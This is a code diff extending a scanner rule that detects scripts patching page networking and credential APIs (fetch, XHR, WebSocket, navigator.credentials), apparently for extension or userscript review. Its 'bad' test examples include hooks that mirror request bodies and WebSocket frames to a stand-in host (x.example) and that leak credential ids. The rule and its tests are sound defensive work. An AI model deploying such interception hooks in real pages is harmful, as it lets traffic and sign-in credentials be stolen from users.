@@ -1,11 +1,12 @@
 import { apiPath, callsOf, constant, listOf, Op, propertyOf, resolve, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
+import { originPaths } from './origins.ts';
 import { runsInPages } from './places.ts';
 import { sendingsOf } from './sendings.ts';
 import { callsWithin, few, functionOf } from './usage.ts';
 
-const TARGETS = /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
+const TARGETS = /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|navigator\.credentials\.(get|create|\*)|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
 
 const TELLS = /^((parent\.|top\.)?postMessage|(document\.)?dispatchEvent)$/;
 
@@ -40,8 +41,12 @@ export const patchesPageFunctions = defineRule({
       contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };'),
       contentExample('const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };'),
       contentExample('const real = window.fetch; const tell = (o) => window.postMessage({ type: "panel", o }, "*"); window.fetch = async (...a) => { const r = await real(...a); const copy = r.clone(); (async () => { tell({ asked: a[1].body, answer: await copy.text() }); })(); return r; };'),
+      contentExample('const Real = window.WebSocket; const mirror = new Real("wss://x.example/m"); window.WebSocket = class extends Real { send(frame) { mirror.send(frame); return super.send(frame); } };'),
+      contentExample('(function (box) { ["get", "create"].forEach((n) => { const real = box[n].bind(box); box[n] = async (o) => { const c = await real(o); document.dispatchEvent(new CustomEvent("seen", { detail: c.id })); return c; }; }); })(navigator.credentials);'),
     ],
     good: [
+      contentExample('const Real = window.WebSocket; window.WebSocket = class extends Real { send(frame) { console.debug(frame); return super.send(frame); } };'),
+      contentExample('(function (box) { ["get", "create"].forEach((n) => { box[n] = () => Promise.reject(new Error("off")); }); })(navigator.credentials);'),
       contentExample('const ethereum = { request: (a) => new Promise((done) => { window.postMessage({ to: "mine", a }, location.origin); wait(done); }) }; if (!window.ethereum) Object.defineProperty(window, "ethereum", { value: ethereum });'),
       contentExample('if (!window.fetch) load("polyfill"); const f = fetch; f("https://api.example.com/");'),
       contentExample('const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }'),
@@ -64,8 +69,18 @@ function patches(script: ScriptFacts): Patch[] {
   const out: Patch[] = [];
   const take = (value: number, target: string | undefined, by: number): void => {
     if (target === undefined || !TARGETS.test(target)) return;
+    const klass = resolve(script, by);
+    if (script.op[klass] === Op.klass) {
+      // `window.WebSocket = class extends WebSocket { send(data) { … } }`
+      for (const name of ['constructor', 'send', 'open', 'setRequestHeader']) {
+        const fn = functionOf(script, propertyOf(script, klass, name));
+        if (fn !== undefined) out.push({ value: value === 0 ? by : value, target, body: fn, quiet: true, own: false });
+      }
+      return;
+    }
     const body = functionOf(script, by);
-    if (body !== undefined) out.push({ value: value === 0 ? by : value, target, body, quiet: false, own: false });
+    // Keys for signing in are switched off by some: only listening is worth a word.
+    if (body !== undefined) out.push({ value: value === 0 ? by : value, target, body, quiet: target.startsWith('navigator.credentials'), own: false });
     // `new Proxy(fetch, { apply })`, as blockers do too, and objects with functions of their own.
     const found = resolve(script, by);
     const made = script.op[found] === Op.create && apiPath(script, script.a[found] as number) === 'Proxy' ? (listOf(script, script.b[found] as number)[1] ?? 0) : script.op[found] === Op.object ? found : 0;
@@ -80,6 +95,15 @@ function patches(script: ScriptFacts): Patch[] {
     const object = apiPath(script, write.object);
     if (object === undefined) continue;
     take(write.value, /^(window|self|globalThis|unsafeWindow|this)$/.test(object) ? write.property : `${object}.${write.property}`, write.value);
+  }
+  if (script.strings.includes('credentials')) {
+    // `for (const name of ['get', 'create']) navigator.credentials[name] = …`
+    for (let at = 0; at < Math.min(script.writes.length, 40_000); at += 4) {
+      const name = script.writes[at + 1] as number;
+      if (name >= 0 && !/^(get|create)$/.test(script.strings[name] as string)) continue;
+      const object = [...originPaths(script, script.writes[at] as number)].find((path) => path === 'navigator.credentials');
+      if (object !== undefined) take(script.writes[at + 2] as number, `${object}.${name < 0 ? '*' : (script.strings[name] as string)}`, script.writes[at + 2] as number);
+    }
   }
   for (const call of callsOf(script, 'Object.defineProperty')) {
     const object = apiPath(script, call.args[0] ?? 0);
